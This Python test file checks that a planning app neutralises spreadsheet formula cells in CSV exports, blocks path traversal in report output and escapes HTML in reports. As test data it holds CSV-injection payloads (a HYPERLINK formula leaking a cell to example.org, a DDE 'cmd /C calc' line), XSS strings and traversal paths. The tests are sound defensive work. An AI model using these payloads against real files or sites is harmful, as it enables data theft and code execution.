"""Hostile text on a copy of the demo store: spreadsheet exports, file names, the server's binding.

* Every CSV export (``sozialraum export angebote``, the tables of the command line, the app's
  downloads; all through the one CSV writer) starts cells that a spreadsheet would run as a
  formula with ``'``; numbers, also negative ones, stay numbers. The files are re-read with
  pandas.
* ``sozialraum report --out DIR`` for a planning area ``../../../x`` writes only inside ``DIR``;
  so do the hotspot outputs.
* ``.streamlit/config.toml`` binds the app to localhost and limits uploads, and the app agrees.
"""

from __future__ import annotations

import os
import tomllib
from pathlib import Path

import pandas as pd
import pytest

import cli
from layers import settings

pytestmark = pytest.mark.slow

FORMULAS = {
    "name": '=HYPERLINK("http://example.org/?leak="&A1;"Klick")',
    "traeger": "+SUM(1;2)",
    "oeffnungszeiten": "-2+3+cmd|' /C calc'!A0",
    "bemerkung": "@SUMME(A1:A9)",
    "kontakt": "\t=1+1",
    "strasse": "\r=1+1",
    "telefon": "+49 241 4321",
}


@pytest.fixture()
def cli_store(aachen_store_copy, monkeypatch):
    """Point the CLI's region 'aachen' at the private store copy."""
    monkeypatch.setattr("layers.store.region_store_path", lambda name: aachen_store_copy.path)
    return aachen_store_copy


def _hostile_offers(store) -> list[str]:
    """Put formula-like text into every text field of three offers; return their ids."""
    offers = store.read_layer("angebote")
    chosen = offers.index[:3]
    for field, value in FORMULAS.items():
        offers[field] = offers[field].astype("string")
        offers.loc[chosen, field] = value
    store.write_layers({"angebote": offers})
    return [str(v) for v in offers.loc[chosen, "angebot_id"]]


def test_export_angebote_neutralises_formula_cells(cli_store, tmp_path):
    ids = _hostile_offers(cli_store)
    target = tmp_path / "angebote.csv"
    assert cli.main(["export", "angebote", "--region", "aachen", "--out", str(target),
                     "--format", "csv"]) == 0
    table = pd.read_csv(target, sep=";", decimal=",", encoding="utf-8-sig",
                        dtype={"plz": str, "angebot_id": str}, keep_default_na=False)
    rows = table[table["angebot_id"].isin(ids)]
    assert len(rows) == 3
    for field, value in FORMULAS.items():
        assert (rows[field] == "'" + value).all(), (field, rows[field].tolist())
    # Nothing else starts a formula, and the numbers are still numbers.
    for column in table.columns:
        if table[column].dtype == object:
            cells = table[column].astype(str)
            assert not cells.str.match(r"[=+\-@\t\r]").any(), column
    assert pd.api.types.is_float_dtype(table["rechtswert"]) and table["rechtswert"].gt(2.8e5).all()
    assert pd.api.types.is_float_dtype(table["breite"])


def test_app_and_cli_tables_neutralise_names_but_keep_negative_numbers(cli_store, tmp_path):
    from planungsraeume import darstellung

    areas = cli_store.read_layer("planungsraeume")
    areas["name"] = areas["name"].astype("string")
    areas.loc[areas.index[0], "name"] = "=WEBDIENST(\"http://example.org\")"
    cli_store.write_layers({"planungsraeume": areas})
    target = tmp_path / "kennzahlen.csv"
    assert cli.main(["planungsraeume", "kennzahlen", "--region", "aachen", "--out", str(target)]) == 0
    table = pd.read_csv(target, sep=";", decimal=",", encoding="utf-8-sig", keep_default_na=False)
    assert "'=WEBDIENST(\"http://example.org\")" in set(table["Planungsraum"])
    # A table with negative differences, as the scenario page offers it for download.
    frame = darstellung.with_format(pd.DataFrame({
        "Nr.": ["PR01", "PR02"], "Planungsraum": ["-Nord", "Süd"], "Differenz": [-120, 35],
        "Anteil": [-0.5, 1.25]}), {"Anteil": 2})
    path = tmp_path / "vergleich.csv"
    path.write_bytes(darstellung.csv_bytes(frame))
    back = pd.read_csv(path, sep=";", decimal=",", encoding="utf-8-sig")
    assert back["Planungsraum"].tolist() == ["'-Nord", "Süd"]
    assert back["Differenz"].tolist() == [-120, 35] and back["Anteil"].tolist() == [-0.5, 1.25]


HOSTILE_NAME = '<img src=x onerror="alert(1)"><script>alert(2)</script>${alert(3)}<svg onload=alert(4)>'


def _tags(markup: str) -> list[tuple[str, dict[str, str | None]]]:
    from html.parser import HTMLParser

    found: list[tuple[str, dict[str, str | None]]] = []

    class Parser(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, dict(attrs)))

    parser = Parser()
    parser.feed(markup)
    parser.close()
    return found


def _files(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if p.is_file()}


def test_report_for_a_traversal_id_writes_only_inside_the_output_folder(cli_store, tmp_path):
    areas = cli_store.read_layer("planungsraeume")
    areas["pr_id"] = areas["pr_id"].astype("string")
    areas.loc[areas.index[0], "pr_id"] = "../../../x"
    areas.loc[areas.index[1], "pr_id"] = "/tmp/absolut"
    areas["name"] = areas["name"].astype("string")
    areas.loc[areas.index[:2], "name"] = HOSTILE_NAME
    cli_store.write_layers({"planungsraeume": areas})
    work = tmp_path / "arbeit"
    out = work / "a" / "b" / "c" / "berichte"
    work.mkdir()
    before = _files(tmp_path)
    code = cli.main(["report", "--region", "aachen", "--out", str(out), "--format", "html",
                     "--planungsraum", "../../../x", "--planungsraum", "/tmp/absolut"])
    assert code == 0
    new = _files(tmp_path) - before
    assert new, "nichts geschrieben"
    resolved = out.resolve()
    assert all(resolved in p.resolve().parents for p in new), sorted(map(str, new))
    names = sorted(p.name for p in new)
    assert names[0].startswith("index") or "index.html" in names
    assert any(n.startswith("x_") for n in names) and any(n.startswith("tmp-absolut_") for n in names)
    assert not Path("/tmp/absolut.html").exists()
    index = (out / "index.html").read_text(encoding="utf-8")
    assert "../../../x" in index  # the id is shown as text …
    assert 'href="../' not in index  # … but never linked as a path
    for page in new:  # the hostile names are text in the Steckbrief, never markup
        tags = _tags(page.read_text(encoding="utf-8"))
        assert "script" not in {t for t, _ in tags} and "svg" not in {t for t, _ in tags}
        assert all(t != "img" or (a.get("src") or "").startswith("data:image/png") for t, a in tags)
        assert not any(k.startswith("on") for _, a in tags for k in a)
        assert "&lt;img src=x onerror" in page.read_text(encoding="utf-8")


def test_hotspot_outputs_stay_in_their_folder(aachen, tmp_path):
    from planungsraeume.barrieren import hotspot_outputs

    out = tmp_path / "hotspots"
    files = hotspot_outputs(aachen, 1000, out, permutations=99)
    for path in (files.geopackage, files.geotiff):
        assert out.resolve() in Path(path).resolve().parents


# --------------------------------------------------------------------------------------------
# The server: localhost only, upload limit
# --------------------------------------------------------------------------------------------


def _streamlit_config() -> dict:
    return tomllib.loads((settings.project_root / ".streamlit" / "config.toml").read_text("utf-8"))


def test_streamlit_config_binds_to_localhost_and_limits_uploads():
    from ui import sicher

    server = _streamlit_config()["server"]
    assert server["address"] == "localhost"
    assert 1 <= server["maxUploadSize"] <= 200
    assert server["maxUploadSize"] == sicher.MAX_UPLOAD_MB
    # The app never takes an upload that the import would refuse for its size.
    assert sicher.MAX_UPLOAD_MB <= settings.max_file_mb
    assert server.get("enableXsrfProtection", True) is True


def test_dev_app_serves_on_the_network_only_when_asked(capsys, monkeypatch):
    import importlib.util

    spec = importlib.util.spec_from_file_location("dev", settings.project_root / "dev.py")
    assert spec is not None and spec.loader is not None
    dev = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(dev)
    monkeypatch.delenv("SOZIALRAUM_IM_NETZ", raising=False)
    assert dev.serve_arguments([]) == (["--server.address", "localhost"], [])
    assert "WARNUNG" not in capsys.readouterr().err
    args, rest = dev.serve_arguments(["--im-netz", "--server.port", "8600"])
    assert args == ["--server.address", "0.0.0.0"] and rest == ["--server.port", "8600"]
    warning = capsys.readouterr().err
    assert "WARNUNG" in warning and "Anmeldung" in warning
    monkeypatch.setenv("SOZIALRAUM_IM_NETZ", "1")
    assert dev.serve_arguments([])[0] == ["--server.address", "0.0.0.0"]
    assert "WARNUNG" in capsys.readouterr().err
    assert os.environ["SOZIALRAUM_IM_NETZ"] == "1"


def test_upload_size_check_agrees_with_the_server_limit(monkeypatch):
    from ui import sicher

    class Upload:
        def __init__(self, name: str, size: int) -> None:
            self.name, self.size = name, size

    assert sicher.check_upload_size(Upload("liste.csv", sicher.MAX_UPLOAD_MB * 1024 * 1024)) is None
    message = sicher.check_upload_size(Upload("gross.xlsx", sicher.MAX_UPLOAD_MB * 1024 * 1024 + 1))
    assert message is not None and "gross.xlsx" in message and f"{sicher.MAX_UPLOAD_MB} MB" in message
    # The fix a user can apply (#13: no message asks a user to edit a configuration file).
    assert "Teilen Sie die Datei auf" in message and "maxUploadSize" not in message
    # A lower import limit of the data layer (SOZIALRAUM_MAX_FILE_MB) wins.
    monkeypatch.setattr(settings, "max_file_mb", 10)
    assert sicher.upload_limit_mb() == 10
    assert "höchstens 10 MB" in (sicher.check_upload_size(Upload("a.csv", 11 * 1024 * 1024)) or "")

